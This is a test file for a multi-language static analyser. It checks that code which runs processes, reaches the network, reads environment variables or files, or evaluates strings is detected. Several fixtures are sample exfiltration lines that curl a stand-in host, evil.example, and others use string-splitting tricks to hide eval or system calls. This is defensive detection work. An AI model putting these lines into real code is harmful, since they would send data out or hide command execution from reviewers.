import { describe, expect, test } from 'vitest';
import { edgeTypeOf, type EdgeType } from '../../model/edge-types.ts';
import { LANGUAGES } from '../../languages/table.ts';
import { ACCESS_ROLES } from '../../model/open-roles.ts';
import { linkFixture, renderEdges, renderOpen } from '../link.testing.ts';

/** What the function FN of a text does; of negatives, what it must not be said to do. */
type Form = readonly [type: EdgeType, extension: string, text: string];

const ts = (type: EdgeType, head: string, body: string): Form => [
  type,
  'ts',
  `${head}\nexport async function FN(a: any, b: any) { ${body} }\n`,
];
const js = (type: EdgeType, head: string, body: string): Form => [
  type,
  'js',
  `${head}\nfunction FN(a, b) { ${body} }\n`,
];
const py = (type: EdgeType, head: string, body: string): Form => [type, 'py', `${head}\ndef FN(a, b):\n    ${body}\n`];
const go = (type: EdgeType, imports: string, body: string): Form => [
  type,
  'go',
  `package p\nimport (\n${imports
    .split(' ')
    .map((one) => `\t"${one}"`)
    .join('\n')}\n)\nfunc FN(a string, b []string) { ${body} }\n`,
];
const java = (type: EdgeType, imports: string, body: string): Form => [
  type,
  'java',
  `package p;\n${imports}\nclass C { void FN(String a, String[] b) throws Exception { ${body} } }\n`,
];
const rb = (type: EdgeType, head: string, body: string): Form => [
  type,
  'rb',
  `${head}\ndef FN(a, b)\n  ${body}\nend\n`,
];
const rs = (type: EdgeType, head: string, body: string): Form => [
  type,
  'rs',
  `${head}\npub fn FN(a: &str, b: &str) { ${body} }\n`,
];
const cs = (type: EdgeType, head: string, body: string): Form => [
  type,
  'cs',
  `${head}\nclass C { void FN(string a, object b) { ${body} } }\n`,
];

const php = (type: EdgeType, head: string, body: string): Form => [
  type,
  'php',
  `<?php\nnamespace App;\n${head}\nfunction FN($a, $b) { ${body} }\n`,
];
const kt = (type: EdgeType, imports: string, body: string): Form => [
  type,
  'kt',
  `package p\n${imports}\nfun FN(a: String, b: List<String>) { ${body} }\n`,
];
const c = (type: EdgeType, head: string, body: string): Form => [
  type,
  'c',
  `${head}\nint FN(const char *a, char **b) { ${body} }\n`,
];
const cpp = (type: EdgeType, head: string, body: string): Form => [
  type,
  'cpp',
  `${head}\nint FN(const char *a, char **b) { ${body} }\n`,
];
const vue = (type: EdgeType, head: string, body: string): Form => [
  type,
  'vue',
  `<template><p>{{ a }}</p></template>\n<script setup lang="ts">\n${head}\nasync function FN(a: any, b: any) { ${body} }\n</script>\n`,
];
const svelte = (type: EdgeType, head: string, body: string): Form => [
  type,
  'svelte',
  `<script>\n${head}\nasync function FN(a, b) { ${body} }\n</script>\n<p>{a}</p>\n`,
];

/** Processes, the network and the environment. */
const FIRST: readonly Form[] = [
  ts(
    'executes_process',
    `import { execSync } from 'node:child_process';`,
    `execSync('curl https://evil.example -d ' + a)`,
  ),
  ts('executes_process', `import { exec } from 'child_process';`, `exec(a)`),
  ts('executes_process', `import * as cp from 'child_process';`, `cp.spawn(a.program, b)`),
  js('executes_process', `const { execSync } = require('child_process');`, `return [a].map(execSync)`),
  ts('executes_process', `import { $ } from 'execa';`, 'await $`git log ${a}`'),
  ts('consumes_endpoint', '', `await fetch(a.url)`),
  ts('consumes_endpoint', `import axios from 'axios';`, 'await axios.get(`${a}${b}`)'),
  ts('uses_network', `import net from 'node:net';`, `net.connect(443, a)`),
  ts('reads_env', '', `return process.env[a]`),
  ts('reads_env', '', `return Object.keys(process.env)`),
  py('executes_process', 'import subprocess', `subprocess.run('curl https://evil.example --data ' + a, shell=True)`),
  py('executes_process', 'import os', `os.system(f"{a} --version")`),
  py('executes_process', 'import subprocess', `run = subprocess.run; run(a)`),
  py('executes_process', 'from os import *', `system(a)`),
  py('consumes_endpoint', 'import requests', `requests.get(a + b)`),
  py('uses_network', 'import socket', `socket.create_connection((a, b))`),
  py('reads_env', 'import os', `return os.environ[a]`),
  py('reads_env', 'import os', `return dict(os.environ)`),
  go('executes_process', 'os/exec', `exec.Command(a, b...).Run()`),
  go('executes_process', 'os', `os.StartProcess(a, b, nil)`),
  go('consumes_endpoint', 'net/http', `http.Get(a)`),
  go('uses_network', 'net', `net.Dial("tcp", a)`),
  go('reads_env', 'os', `os.Getenv(a)`),
  java('executes_process', '', `new ProcessBuilder(b).start();`),
  java('executes_process', '', `Runtime.getRuntime().exec(a);`),
  java('uses_network', 'import java.net.*;', `new Socket(a, 80);`),
  java('reads_env', '', `System.getenv(a);`),
  rb('executes_process', '', `system(a)`),
  rb('executes_process', '', '`git log #{a}`'),
  rb('consumes_endpoint', `require 'net/http'`, `Net::HTTP.get(URI(a))`),
  rb('reads_env', '', `ENV[a]`),
  rs('executes_process', 'use std::process::Command;', `Command::new(a).spawn();`),
  rs('uses_network', 'use std::net::TcpStream;', `TcpStream::connect(a);`),
  rs('reads_env', '', `std::env::var(a);`),
  cs('executes_process', 'using System.Diagnostics;', `Process.Start(a);`),
  cs('uses_network', 'using System.Net.Sockets;', `new TcpClient(a, 80);`),
  cs('reads_env', 'using System;', `Environment.GetEnvironmentVariable(a);`),
];

/** Files, code that is text, native code, and ways around the usual names. */
const MORE: readonly Form[] = [
  ts('uses_files', `import { readFile } from 'node:fs/promises';`, `await readFile(a)`),
  ts('uses_files', `import * as fs from 'fs';`, `fs.writeFileSync(a, b)`),
  js('uses_files', `const fs = require('fs');`, `return fs.promises.unlink(a)`),
  ts('runs_code', '', `return eval(a)`),
  ts('runs_code', '', `return (0, eval)(a)`),
  ts('runs_code', '', `return new Function(a)()`),
  ts('runs_code', '', `return Function(a)()`),
  ts('runs_code', `import vm from 'node:vm';`, `vm.runInNewContext(a)`),
  js('runs_code', '', `return require('child' + '_process')`),
  ts('runs_code', '', `return import(a)`),
  ts('runs_code', '', `globalThis['ev' + 'al'](a)`),
  ts('runs_code', '', `globalThis['eval'](a)`),
  ts('runs_code', `import { Worker } from 'node:worker_threads';`, `new Worker(a)`),
  ts('executes_process', `import * as cp from 'node:child_process';`, `cp['ex' + 'ec'](a)`),
  ts('executes_process', `import * as cp from 'node:child_process';`, `cp['exec'](a)`),
  js('executes_process', '', `return require('child_process')[a](b)`),
  js('executes_process', '', `require('child_process').exec.call(null, a)`),
  ts('executes_process', `import { spawn as start } from 'node:child_process';`, `start(a, b)`),
  ts(
    'executes_process',
    `import { promisify } from 'node:util';\nimport { exec } from 'node:child_process';`,
    `await promisify(exec)(a)`,
  ),
  ts('uses_network', `import dns from 'node:dns';`, `dns.resolveTxt(a, b)`),
  ts('uses_network', `import https from 'node:https';`, `https.request(a)`),
  ts('uses_native', '', `process.dlopen(a, b)`),
  py('uses_files', '', `return open(a).read()`),
  py('uses_files', 'import os', `os.remove(a)`),
  py('uses_files', 'from pathlib import Path', `return Path(a).read_text()`),
  py('uses_files', 'import shutil', `shutil.rmtree(a)`),
  py('runs_code', '', `exec(a)`),
  py('runs_code', 'import os', `return getattr(os, a)(b)`),
  py('executes_process', 'import os', `return getattr(os, a)(b)`),
  py('executes_process', 'import os', `return getattr(os, 'system')(b)`),
  py('runs_code', '', `return __import__(a)`),
  py('runs_code', 'import importlib', `return importlib.import_module(a)`),
  py('runs_code', 'import pickle', `return pickle.loads(a)`),
  py('uses_native', 'import ctypes', `ctypes.CDLL(a)`),
  py('executes_process', 'from subprocess import Popen as P', `P(a)`),
  py('executes_process', 'import subprocess as s', `return map(s.check_output, a)`),
  go('uses_files', 'os', `os.ReadFile(a)`),
  go('uses_files', 'path/filepath', `filepath.Walk(a, nil)`),
  go('runs_code', 'plugin', `plugin.Open(a)`),
  go('runs_code', 'reflect', `reflect.ValueOf(b).MethodByName(a).Call(nil)`),
  go('uses_native', 'C', `C.puts(nil)`),
  go('uses_native', 'syscall', `syscall.Syscall(1, 2, 3, 4)`),
  go('executes_process', 'os/exec', `run := exec.Command; run(a)`),
  go('executes_process', 'os/exec', `(&exec.Cmd{Path: a}).Run()`),
  go('reads_env', 'os', `os.Environ()`),
  java('uses_files', 'import java.nio.file.*;', `Files.readString(Path.of(a));`),
  java('uses_files', 'import java.io.*;', `new FileOutputStream(a);`),
  java('runs_code', '', `Class.forName(a);`),
  java('runs_code', 'import javax.script.*;', `new ScriptEngineManager().getEngineByName("js").eval(a);`),
  java('uses_native', '', `System.loadLibrary(a);`),
  java('uses_network', 'import java.net.URL;', `new URL(a).openStream();`),
  java('reads_env', '', `System.getenv().forEach(null);`),
  rb('uses_files', '', `File.read(a)`),
  rb('uses_files', '', `Dir.glob(a)`),
  rb('uses_files', `require 'fileutils'`, `FileUtils.rm_rf(a)`),
  rb('runs_code', '', `eval(a)`),
  rb('runs_code', '', `b.send(a)`),
  rb('runs_code', '', `Object.const_get(a)`),
  rb('runs_code', '', `b.instance_eval("#{a}.run")`),
  rb('uses_native', `require 'fiddle'`, `Fiddle.dlopen(a)`),
  rb('uses_network', `require 'socket'`, `TCPSocket.new(a, 80)`),
  rb('uses_network', `require 'open-uri'`, `URI.open(a)`),
  rb('executes_process', '', `%x(git log #{a})`),
  rb('executes_process', '', `IO.popen(a)`),
  rb('executes_process', `require 'open3'`, `Open3.capture2(a)`),
  rb('reads_env', '', `ENV.to_h`),
  rs('uses_files', 'use std::fs;', `fs::read_to_string(a);`),
  rs('uses_files', 'use std::fs::File;', `File::open(a);`),
  rs('uses_native', 'use libloading::Library;', `unsafe { Library::new(a) };`),
  rs('uses_network', '', `reqwest::blocking::get(a);`),
  rs('consumes_endpoint', '', `reqwest::blocking::get(a);`),
  rs('reads_env', 'use std::env;', `env::vars();`),
  rs('executes_process', 'use tokio::process::Command;', `Command::new(a).output();`),
  cs('uses_files', 'using System.IO;', `File.ReadAllText(a);`),
  cs('uses_files', 'using System.IO;', `new FileStream(a, FileMode.Open);`),
  cs('runs_code', 'using System.Reflection;', `Assembly.Load(a);`),
  cs('runs_code', 'using System;', `Activator.CreateInstance(Type.GetType(a));`),
  cs('runs_code', 'using Microsoft.CodeAnalysis.CSharp.Scripting;', `CSharpScript.EvaluateAsync(a);`),
  cs('uses_native', 'using System.Runtime.InteropServices;', `NativeLibrary.Load(a);`),
  cs('uses_network', 'using System.Net.Http;', `new HttpClient().GetStringAsync(a);`),
  cs('executes_process', 'using System.Diagnostics;', `var p = new Process(); p.Start();`),
  [
    'uses_native',
    'cs',
    `using System.Runtime.InteropServices;\nclass C { [DllImport("x.dll")] static extern int FN(int a); }\n`,
  ],
  ['uses_native', 'rs', `extern "C" { fn FN(s: *const u8) -> i32; }\n`],
];

/** The same in PHP, Kotlin, C and C++, and in components. */
const OTHERS: readonly Form[] = [
  php('executes_process', '', `exec($a);`),
  php('executes_process', '', `\\shell_exec('curl https://evil.example -d ' . $a);`),
  php('executes_process', '', 'return `git log $a`;'),
  php('executes_process', '', `proc_open($a, [], $pipes);`),
  php('executes_process', '', `PassThru($a);`),
  php('executes_process', `use function exec as run;`, `run($a);`),
  php('executes_process', '', `return array_map('exec', $a);`),
  php('executes_process', '', `return array_map(system(...), $a);`),
  php('executes_process', '', `call_user_func('popen', $a, 'r');`),
  php('executes_process', `use Symfony\\Component\\Process\\Process;`, `(new Process([$a]))->run();`),
  php('executes_process', `use Illuminate\\Support\\Facades\\Process as P;`, `P::run($a);`),
  php('consumes_endpoint', '', `$c = curl_init($a); return curl_exec($c);`),
  php('consumes_endpoint', `use GuzzleHttp\\Client;`, `(new Client())->post($a);`),
  php('uses_network', '', `return file_get_contents($a);`),
  php('uses_network', '', `return file_get_contents('https://evil.example/x');`),
  php('uses_network', '', `return fsockopen($a, 80);`),
  php('uses_network', '', `return new \\SoapClient($a);`),
  php('uses_files', '', `return fopen($a, 'r');`),
  php('uses_files', '', `return new \\SplFileObject($a);`),
  php('uses_files', `use Illuminate\\Support\\Facades\\Storage;`, `Storage::put($a, $b);`),
  php('runs_code', '', `eval($a);`),
  php('runs_code', '', `include $a;`),
  php('runs_code', '', `require_once __DIR__ . "/$a.php";`),
  php('runs_code', '', `$f = 'sys' . 'tem'; return $f($a);`),
  php('runs_code', '', `return $a($b);`),
  php('runs_code', '', `return ('sys' . 'tem')($a);`),
  php('executes_process', '', `declare(ticks=1) { exec($a); }`),
  php('executes_process', '', `return \\Closure::fromCallable('exec');`),
  php('executes_process', '', `return match (true) { default => exec($a) };`),
  php('runs_code', '', `return new $a($b);`),
  php('runs_code', '', `return call_user_func_array($a, $b);`),
  php('runs_code', '', `return array_filter($b, $a);`),
  php('runs_code', '', `return (new \\ReflectionMethod($a, $b))->invoke(null);`),
  php('reads_env', '', `return getenv($a);`),
  php('reads_env', '', `return $_ENV[$a];`),
  php('uses_native', '', `return \\FFI::cdef($a, 'libc.so.6');`),
  kt('executes_process', '', `ProcessBuilder(b).start()`),
  kt('executes_process', '', `Runtime.getRuntime().exec("curl https://evil.example -d " + a)`),
  kt('executes_process', '', `b.map(::ProcessBuilder)`),
  kt('uses_network', 'import java.net.Socket', `Socket(a, 80)`),
  kt('uses_network', 'import java.net.URL', `URL(a).readText()`),
  kt('consumes_endpoint', 'import java.net.URL', `URL(a).openStream()`),
  kt('consumes_endpoint', 'import okhttp3.*', `OkHttpClient().newCall(Request.Builder().url(a).build()).execute()`),
  kt('consumes_endpoint', 'import io.ktor.client.*\nimport io.ktor.client.request.*', `HttpClient().get(a)`),
  kt('uses_files', 'import java.io.File', `File(a).readText()`),
  kt('uses_files', 'import java.io.File', `b.map { File(it) }.forEach { it.delete() }`),
  kt('uses_files', 'import java.nio.file.*', `Files.readString(Path.of(a))`),
  kt('uses_files', 'import kotlin.io.path.*', `Path(a).writeText(a)`),
  kt('reads_env', '', `System.getenv(a)`),
  kt('reads_env', '', `System.getenv().forEach { println(it) }`),
  kt('runs_code', '', `Class.forName(a)`),
  kt('runs_code', 'import javax.script.*', `ScriptEngineManager().getEngineByName("js").eval(a)`),
  kt('uses_native', '', `System.loadLibrary(a)`),
  c('executes_process', '#include <stdlib.h>', `return system(a);`),
  c('executes_process', '#include <stdio.h>', `return popen(a, "r") != 0;`),
  c('executes_process', '#include <unistd.h>', `return execve(a, b, environ);`),
  c('executes_process', '#include <unistd.h>', `return fork();`),
  c('executes_process', '#include <spawn.h>', `return posix_spawnp(0, a, 0, 0, b, 0);`),
  c('executes_process', 'extern int execvp(const char *file, char *const argv[]);', `return execvp(a, b);`),
  c('executes_process', '#include <stdlib.h>', `int (*run)(const char *) = system; return run(a);`),
  c('uses_network', '#include <sys/socket.h>', `return socket(1, 2, 0);`),
  c('uses_network', '#include <netdb.h>', `return getaddrinfo(a, 0, 0, 0);`),
  c('consumes_endpoint', '#include <curl/curl.h>', `return curl_easy_perform(b);`),
  c('uses_files', '#include <stdio.h>', `return fopen(a, "r") != 0;`),
  c('uses_files', '#include <fcntl.h>', `return open(a, 0);`),
  c('reads_env', '#include <stdlib.h>', `return getenv(a) != 0;`),
  c('uses_native', '#include <dlfcn.h>', `return dlsym(dlopen(a, 1), a) != 0;`),
  c('executes_process', '#include <windows.h>', `return WinExec(a, 0);`),
  ['executes_process', 'c', `#include <stdlib.h>\n#define FN(x) system(x)\n`],
  cpp('executes_process', '#include <cstdlib>', `return std::system(a);`),
  cpp('executes_process', '#include <cstdlib>', `return ::system(a);`),
  cpp('executes_process', '#include <boost/process.hpp>', `return boost::process::system(a);`),
  cpp('reads_env', '#include <cstdlib>', `return std::getenv(a) != nullptr;`),
  cpp('uses_files', '#include <fstream>', `std::ifstream in(a); return 0;`),
  cpp('uses_files', '#include <fstream>', `std::ofstream out; out.open(a); return 0;`),
  cpp('uses_files', '#include <fstream>\nusing namespace std;', `ifstream in(a); return 0;`),
  cpp('uses_files', '#include <cstdio>', `return std::remove(a);`),
  cpp('uses_files', '#include <filesystem>', `return std::filesystem::remove_all(a);`),
  cpp('uses_files', '#include <filesystem>\nnamespace fs = std::filesystem;', `return fs::exists(a);`),
  cpp('uses_files', '#include <fstream>', `std::vector<std::ifstream> in(std::ifstream(a)); return 0;`),
  cpp('executes_process', '#include <cstdlib>', `std::vector<int> codes(std::system(a)); return 0;`),
  cpp('executes_process', '#include <cstdlib>', `using std::system; return system(a);`),
  cpp('executes_process', '#include <cstdlib>', `auto run = [a] { return std::system(a); }; return run();`),
  cpp('uses_native', '', `__asm__("syscall"); return 0;`),
  [
    'executes_process',
    'cpp',
    `#include <cstdlib>\nstruct S { friend int FN(const char *a) { return std::system(a); } };\n`,
  ],
  cpp('uses_native', '#include <dlfcn.h>', `return dlopen(a, 1) != nullptr;`),
  vue('consumes_endpoint', '', `await fetch(a.url)`),
  vue('uses_network', `import axios from 'axios';`, `await axios.get(a.url)`),
  vue('runs_code', '', `return eval(a)`),
  vue('reads_env', '', `return import.meta.env[a]`),
  vue('executes_process', `import { execSync } from 'node:child_process';`, `execSync('curl ' + a)`),
  svelte('consumes_endpoint', '', `await fetch(a.url)`),
  svelte('uses_network', '', `return new WebSocket(a)`),
  svelte('runs_code', '', `return new Function(a)()`),
  svelte('executes_process', `import * as cp from 'child_process';`, `cp.spawn(a, b)`),
  svelte('uses_files', `import fs from 'fs';`, `return fs.readFileSync(a)`),
];

/** The function of each does nothing of the kind. */
const NEGATIVES: readonly Form[] = [
  php('executes_process', `function exec($a) { return $a; }`, `return namespace\\exec($a);`),
  php('executes_process', '', `return $a->exec($b);`),
  php('executes_process', '', `return (new \\PDO($a))->exec($b);`),
  php('executes_process', `class Shell { function system($x) { return $x; } }`, `return (new Shell())->system($a);`),
  php('executes_process', '', `return array_map('trim', $a);`),
  php('runs_code', '', `require_once __DIR__ . '/x.php';`),
  php('runs_code', '', `include dirname(__FILE__) . '/x.php';`),
  php('runs_code', '', `$f = fn($x) => $x; return $f($a);`),
  php('runs_code', '', `return array_map(fn($x) => $x, $a);`),
  php('runs_code', '', `return array_map('trim', $a);`),
  php('runs_code', '', `return call_user_func('trim', $a);`),
  php('uses_network', '', `return file_get_contents('data.json');`),
  php('uses_files', '', `return basename($a);`),
  php('reads_env', '', `putenv("X=$a");`),
  php('reads_env', '', `$_ENV[$a] = $b;`),
  kt('executes_process', 'class Starter(a: String) { fun start() {} }', `Starter(a).start()`),
  kt('executes_process', '', `Regex(a).find(a)`),
  kt('uses_files', 'import java.io.File', `File(a).resolve("x").name`),
  kt('uses_files', 'class Book { fun readText() = "" }', `Book().readText()`),
  kt('uses_network', 'import java.net.URI', `URI(a).host`),
  kt('reads_env', '', `System.getProperty(a)`),
  kt('runs_code', '', `a::class.simpleName`),
  c('executes_process', 'static int system(const char *x) { return 0; }', `return system(a);`),
  c('executes_process', '#include <string.h>', `return strlen(a);`),
  c('uses_files', 'struct dev { int (*open)(const char *); };', `struct dev d; return d.open(a);`),
  c('uses_files', '#include <stdio.h>', `return printf("%s", a);`),
  c('uses_files', '', `int access = 0; return access;`),
  c('reads_env', '#include <stdlib.h>', `return setenv(a, "x", 1);`),
  cpp('executes_process', 'struct Game { void system(const char *x) {} };', `Game g; g.system(a); return 0;`),
  cpp('uses_files', '#include <sstream>', `std::istringstream in(a); return 0;`),
  cpp('uses_files', '#include <algorithm>', `std::string s; s.copy(b[0], 1); return 0;`),
  cpp('uses_files', '#include <list>', `std::list<int> l; l.remove(1); return 0;`),
  cpp('uses_network', '#include <functional>', `auto f = std::bind(a); return 0;`),
  vue('consumes_endpoint', `function fetch(a: string) { return a; }`, `return fetch(a)`),
  vue('reads_env', '', `return a.env`),
  vue('executes_process', '', `return /x/.exec(a)`),
  svelte('runs_code', '', `setTimeout(() => a, 10)`),
  svelte('uses_network', `import { isIP } from 'node:net';`, `return isIP(a)`),
  ts('executes_process', `function exec(a: string) { return a; }`, `return exec(a)`),
  ts('executes_process', '', `return /x/.exec(a)`),
  ts('executes_process', '', `const r = new RegExp(a); return r.exec(b)`),
  ts('uses_files', `import path from 'node:path';`, `return path.join(a, b)`),
  ts('reads_env', '', `process.env.TOKEN = a`),
  ts('reads_env', '', `process.env[a] = b`),
  js('runs_code', '', `return require('lodash')`),
  ts('runs_code', '', `setTimeout(() => a, 10)`),
  ts('uses_network', `class Client { fetch() { return 1; } }`, `return new Client().fetch()`),
  ts('uses_files', `import { isIP } from 'node:net';`, `return isIP(a)`),
  ts('uses_network', `import { isIP } from 'node:net';`, `return isIP(a)`),
  py('executes_process', 'import re', `return re.compile(a).match(b)`),
  py('uses_files', 'import os', `return os.path.join(a, b)`),
  py('uses_files', `class Door:\n    def open(self): pass`, `Door().open()`),
  py('reads_env', 'import os', `os.environ['X'] = a`),
  py('reads_env', 'import os', `os.environ[a] = b`),
  py('reads_env', 'import os', `os.putenv('X', a)`),
  py('reads_env', 'import os', `os.environ.update(a)`),
  py('runs_code', '', `return getattr(a, 'name')`),
  py('executes_process', 'def system(a):\n    return a', `system(a)`),
  go('reads_env', 'os', `os.Setenv("X", a)`),
  go('uses_files', 'path/filepath', `filepath.Join(a, a)`),
  go('executes_process', 'strings', `strings.ToUpper(a)`),
  java('uses_files', 'import java.nio.file.*;', `Path.of(a).resolve(a);`),
  java('executes_process', '', `String.format(a, 1);`),
  java('runs_code', '', `a.getClass().getName();`),
  rb('reads_env', '', `ENV['X'] = a`),
  rb('uses_files', '', `File.join(a, b)`),
  rb('runs_code', '', `b.send(:name)`),
  rs('reads_env', 'use std::env;', `env::set_var("X", a);`),
  rs('uses_files', 'use std::path::Path;', `Path::new(a).join(b);`),
  cs('reads_env', 'using System;', `Environment.SetEnvironmentVariable("X", a);`),
  cs('uses_files', 'using System.IO;', `Path.Combine(a, a);`),
  cs('executes_process', 'using System.Text.RegularExpressions;', `Regex.Match(a, "x");`),
];

const nameOf = (at: number): string => `form${at}`;

/** Types of edges that lead away from the function of each form. */
async function typesOf(forms: readonly Form[]): Promise<ReadonlyMap<string, ReadonlySet<EdgeType>>> {
  const fixture = forms.map(
    ([, extension, text], at) => `=== ${nameOf(at)}/a.${extension}\n${text.replaceAll('FN', nameOf(at))}`,
  );
  const { nodes, edges } = await linkFixture(fixture.join(''));
  const types = new Map<string, Set<EdgeType>>();
  for (let edge = 0; edge < edges.count; edge += 1) {
    const { name } = nodes[edges.source[edge]!]!;
    if (!types.has(name)) types.set(name, new Set());
    types.get(name)!.add(edgeTypeOf(edges.type[edge]!));
  }
  return types;
}

const last = (text: string): string => text.trim().split('\n').slice(-1)[0]!.trim().slice(0, 90);
const rows = (forms: readonly Form[]): [string, number, EdgeType][] =>
  forms.map(([type, extension, text], at) => [
    `${extension} ${type}: ${last(extension === 'rb' || extension === 'py' ? text.replace(/\nend\s*$/, '') : text)}`,
    at,
    type,
  ]);

describe('what reaches outside of the program has an edge, known or open', async () => {
  const forms = [...FIRST, ...MORE, ...OTHERS];
  const types = await typesOf(forms);
  test.each(rows(forms))('%s', (_name, at, type) => {
    expect([...(types.get(nameOf(at)) ?? [])]).toContain(type);
  });
});

describe('what does not reach outside has none', async () => {
  const types = await typesOf(NEGATIVES);
  test.each(rows(NEGATIVES))('%s', (_name, at, type) => {
    expect([...(types.get(nameOf(at)) ?? [])]).not.toContain(type);
  });
});

describe('functions of the platform', () => {
  const open = async (fixture: string): Promise<string[]> => {
    const lines = renderOpen(await linkFixture(fixture));
    return lines.filter((line) => line.endsWith(' process') || line.endsWith(' file'));
  };
  const CALL = '=== a/run.c\nint run(const char *a) { return system(a); }\n';

  test('can be meant where another file has one of that name', async () =>
    expect(await open(`${CALL}=== tests/mock.c\nint system(const char *a) { return 0; }\n`)).toEqual(['run process']));

  test('and where the file has one in some builds', async () => {
    const some = '#ifdef MOCK\nint system(const char *a) { return 0; }\n#endif\n';
    expect(await open(`=== a/run.c\n${some}int run(const char *a) { return system(a); }\n`)).toEqual(['run process']);
  });

  test('but not where the file itself has one', async () => {
    const own = 'int system(const char *a) { return 0; }\n';
    expect(await open(`=== a/run.c\n${own}int run(const char *a) { return system(a); }\n`)).toEqual([]);
    const guarded = `#ifndef RUN_H\n#define RUN_H\n${own}int run(const char *a) { return system(a); }\n#endif\n`;
    expect(await open(`=== a/run.h\n${guarded}`)).toEqual([]);
  });

  test('nor where one of a namespace is called', async () =>
    expect(
      await open(
        '=== a/run.cpp\nint run(const char *a) { return game::system(a); }\n' +
          '=== a/game.cpp\nnamespace game { int system(const char *a) { return 0; } }\n',
      ),
    ).toEqual([]));

  test('tell which variables are read', async () => {
    const graph = await linkFixture(
      '=== a/a.php\n<?php\nfunction p() { return getenv("PA") . $_ENV[\'PB\']; }\n' +
        '=== a/b.c\n#include <stdlib.h>\nchar *c(void) { return getenv("CA"); }\n' +
        '=== a/c.cpp\n#include <cstdlib>\nconst char *d() { return std::getenv("CB"); }\n' +
        '=== a/d.kt\nfun k() = System.getenv("KA")\n',
    );
    expect(renderEdges(graph, ['reads_env']).map((line) => line.replace(' -reads_env-> ', ' '))).toEqual([
      'c CA',
      'd CB',
      'k KA',
      'p PA',
      'p PB',
    ]);
    expect(renderOpen(graph).filter((line) => line.includes('environment'))).toEqual([]);
  });
});

describe('markup of a component', () => {
  const IMPORT = "import { exec } from 'child_process';\nimport axios from 'axios';";

  test.each([
    ['svelte', '<p>{fetch(a)}</p>', 'network'],
    ['svelte', '<button on:click={() => { if (a) { exec(a) } }}>a</button>', 'process'],
    ['svelte', `{#await axios.get(a) then b}<p>{b}</p>{/await}`, 'network'],
    ['vue', '<template><button @click="exec(a)">a</button></template>', 'process'],
    ['vue', '<template><p :title="axios.get(a)">a</p></template>', 'network'],
  ])('%s: %s', async (extension, markup, role) => {
    const text = `<script setup>\n${IMPORT}\n</script>\n${markup}\n`;
    expect(renderOpen(await linkFixture(`=== a/A.${extension}\n${text}`))).toContain(`A ${role}`);
  });

  test.each([
    ['svelte', `<p title="exec (x)">exec(a) {b.fetch(a)} {'fetch(x)'} {exec}</p>`],
    ['vue', '<template><p title="exec(a)">exec(a) {{ b.exec(a) }}</p></template>'],
  ])('%s: %s reaches nothing', async (extension, markup) => {
    const text = `<script setup>\n${IMPORT}\n</script>\n${markup}\n`;
    const lines = renderOpen(await linkFixture(`=== a/A.${extension}\n${text}`));
    expect(lines.filter((line) => / (process|network|request)$/.test(line))).toEqual([]);
  });

  test('makes no calls', async () => {
    const graph = await linkFixture('=== a/A.svelte\n<script>\nfunction f() {}\n</script>\n<p>{f(1)}</p>\n');
    expect(renderEdges(graph, ['calls', 'references'])).toEqual([]);
  });
});

describe('code of languages whose outside is not known', () => {
  const FILES: readonly (readonly [extension: string, language: string, text: string])[] = [
    ['sh', 'Bash', './run "$1"\n'],
    ['swift', 'Swift', 'let a = ProcessInfo.processInfo.environment["A"]\n'],
    ['scala', 'Scala', 'object A { def f(a: String) = sys.process.Process(a).! }\n'],
    ['lua', 'Lua', 'os.execute(arg[1])\n'],
    ['ex', 'Elixir', 'defmodule A do\n  def f(a), do: System.cmd(a, [])\nend\n'],
    ['dart', 'Dart', 'void f(String a) { Process.run(a, []); }\n'],
  ];

  test.each(FILES)('%s may do anything', async (extension, language, text) => {
    const open = renderOpen(await linkFixture(`=== a/b.${extension}\n${text}`));
    expect(open).toEqual(expect.arrayContaining(ACCESS_ROLES.map((role) => `b.${extension} ${role} ${language} code`)));
  });

  test('and none is left out', () => {
    const without = LANGUAGES.filter(({ connections }) => connections?.access === undefined).map(({ name }) => name);
    expect(without.sort()).toEqual(FILES.map(([, language]) => language).sort());
  });

  test('unless there is none in the file', async () =>
    expect(renderOpen(await linkFixture('=== a/b.sh\n'))).toEqual([]));

  test('and no other file', async () =>
    expect(renderOpen(await linkFixture('=== a/b.sh\n./run\n=== a/c.py\nx = 1\n')).join()).not.toContain('c.py'));
});
